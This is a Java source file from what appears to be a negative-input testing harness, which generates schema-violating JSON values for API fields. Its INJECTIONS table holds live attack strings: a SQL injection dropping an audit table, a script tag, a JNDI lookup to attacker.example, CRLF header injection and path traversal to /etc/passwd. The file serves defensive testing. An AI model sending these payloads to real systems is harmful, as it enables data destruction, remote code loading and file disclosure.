package org.shortagewatch.infra.hostile;

import java.util.ArrayList;
import java.util.Collections;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.JsonNodeFactory;

/**
 * The wrong values for one field, by what its schema says it is, each as raw JSON text with a label: a wrong JSON
 * type, an enum's ordinal, numbers out of range or beyond the type, impossible dates, text too long, control
 * characters, and injection strings where the schema restricts the text (a pattern, an enum or a format) and the
 * string breaks that restriction. Free text may legitimately say {@code <script>}, so injection strings are never
 * sent where the schema would admit them.
 */
final class HostileValues {

    /** Text an attacker sends, by what it attacks. */
    static final Map<String, String> INJECTIONS = labelled(
            "SQL injection", "' OR '1'='1'; DROP TABLE audit_log; --",
            "script injection", "<script>alert(1)</script>",
            "JNDI lookup", "${jndi:ldap://attacker.example/a}",
            "CRLF header injection", "x\r\nSet-Cookie: hostile=1",
            "path traversal", "../../../../etc/passwd");

    /** Characters no text may hold (tab and line breaks may), each with its label, escaped as JSON inside a text. */
    static final Map<String, String> CONTROLS = labelled(
            "NUL", "a\\u0000b",
            "ESC", "a\\u001b[2Jb",
            "DEL", "a\\u007fb",
            "C1 NEL", "a\\u0085b",
            "lone surrogate", "a\\ud800b");

    private static final JsonNodeFactory NODES = JsonNodeFactory.instance;

    private HostileValues() {
    }

    /** A table of labels and texts, given in turn, in that order. */
    private static Map<String, String> labelled(String... labelsAndTexts) {
        Map<String, String> table = new LinkedHashMap<>();
        for (int i = 0; i < labelsAndTexts.length; i += 2) {
            table.put(labelsAndTexts[i], labelsAndTexts[i + 1]);
        }
        return Collections.unmodifiableMap(table);
    }

    /** Label and raw JSON text of every wrong value for a field of {@code schema} whose base value is {@code base}. */
    static Map<String, String> of(JsonNode schema, JsonNode base) {
        Map<String, String> values = new LinkedHashMap<>();
        String type = BaseValues.type(schema);
        String baseText = EditedJson.text(base);
        switch (type) {
            case "integer", "number" -> numbers(schema, type, baseText, values);
            case "boolean" -> {
                values.put("boolean as text", "\"true\"");
                values.put("boolean as number", "1");
                values.put("object for boolean", "{}");
                values.put("array for boolean", "[" + baseText + "]");
            }
            case "array" -> {
                values.put("text for array", "\"hostile\"");
                values.put("number for array", "1");
                values.put("object for array", "{}");
                values.put("single item for array", baseText.startsWith("[") && base.size() > 0
                        ? EditedJson.text(base.get(0)) : "\"hostile\"");
                int minItems = schema.path("minItems").asInt(0);
                if (minItems > 0) {
                    values.put("fewer than minItems", "[]");
                }
                if (schema.has("maxItems") && base.size() > 0) {
                    values.put("more than maxItems", repeatedItems(base.get(0), schema.get("maxItems").asInt() + 1));
                }
            }
            case "object" -> {
                values.put("text for object", "\"hostile\"");
                values.put("number for object", "1");
                values.put("array for object", "[" + baseText + "]");
            }
            default -> text(schema, base, values);
        }
        return values;
    }

    private static void numbers(JsonNode schema, String type, String baseText, Map<String, String> values) {
        values.put("number as text", "\"" + baseText + "\"");
        values.put("boolean for number", "true");
        values.put("object for number", "{}");
        values.put("array for number", "[" + baseText + "]");
        values.put("1e400", "1e400");
        if (type.equals("integer")) {
            values.put("fraction for integer", "1.5");
            values.put("2^63", "9223372036854775808");
            if ("int32".equals(schema.path("format").asText())) {
                values.put("2^31", "2147483648");
            }
        }
        if (schema.has("minimum")) {
            long min = schema.get("minimum").asLong();
            values.put("below minimum", Long.toString(min - 1));
            if (min > 0) {
                values.put("zero below minimum", "0");
            }
            if (min >= 0) {
                values.put("negative", "-1");
            }
        }
        if (schema.has("maximum")) {
            values.put("above maximum", Long.toString(schema.get("maximum").asLong() + 1));
        }
    }

    private static void text(JsonNode schema, JsonNode base, Map<String, String> values) {
        values.put("number for text", "12345");
        values.put("boolean for text", "true");
        values.put("object for text", "{}");
        values.put("array for text", "[" + EditedJson.text(base) + "]");
        if (schema.has("enum")) {
            values.put("enum ordinal", "1");
            String first = schema.get("enum").get(0).asText();
            if (!first.toLowerCase().equals(first)) {
                values.put("enum in lower case", quoted(first.toLowerCase()));
            }
        }
        switch (schema.path("format").asText()) {
            case "date" -> {
                values.put("year 99999", "\"+99999-01-01\"");
                values.put("year 1", "\"0001-01-01\"");
                values.put("date as number", "20261210");
                values.put("date as array", "[2026,12,10]");
                values.put("no such day", "\"2026-02-30\"");
            }
            case "local-time" -> {
                values.put("no such time", "\"25:00\"");
                values.put("time as number", "2200");
            }
            case "uuid" -> values.put("not a UUID", "\"not-a-uuid\"");
            default -> {
            }
        }
        int oversize = schema.has("maxLength") ? schema.get("maxLength").asInt() + 1 : 100_000;
        values.put("text of " + oversize + " characters", "\"" + "x".repeat(oversize) + "\"");
        CONTROLS.forEach((label, escaped) -> values.put("control character " + label, "\"" + escaped + "\""));
        if (isRestricted(schema)) {
            INJECTIONS.forEach((label, text) -> {
                if (!admits(schema, text)) {
                    values.put(label, quoted(text));
                }
            });
        }
    }

    /** Whether the schema restricts text beyond "not blank": an enum, a format or a real pattern. */
    static boolean isRestricted(JsonNode schema) {
        String pattern = schema.path("pattern").asText("");
        return schema.has("enum") || schema.has("format") || !(pattern.isEmpty() || pattern.equals("\\S"));
    }

    /** Whether the schema's enum and pattern would admit {@code text} (a format admits no injection string). */
    static boolean admits(JsonNode schema, String text) {
        if (schema.has("format")) {
            return false;
        }
        if (schema.has("enum")) {
            for (JsonNode allowed : schema.get("enum")) {
                if (allowed.asText().equals(text)) {
                    return true;
                }
            }
            return false;
        }
        String pattern = schema.path("pattern").asText(null);
        return pattern == null || Pattern.compile(pattern).matcher(text).find();
    }

    private static String repeatedItems(JsonNode item, int count) {
        List<String> items = new ArrayList<>();
        for (int i = 0; i < count; i++) {
            items.add(EditedJson.text(item));
        }
        return "[" + String.join(",", items) + "]";
    }

    static String quoted(String text) {
        return EditedJson.text(NODES.textNode(text));
    }
}
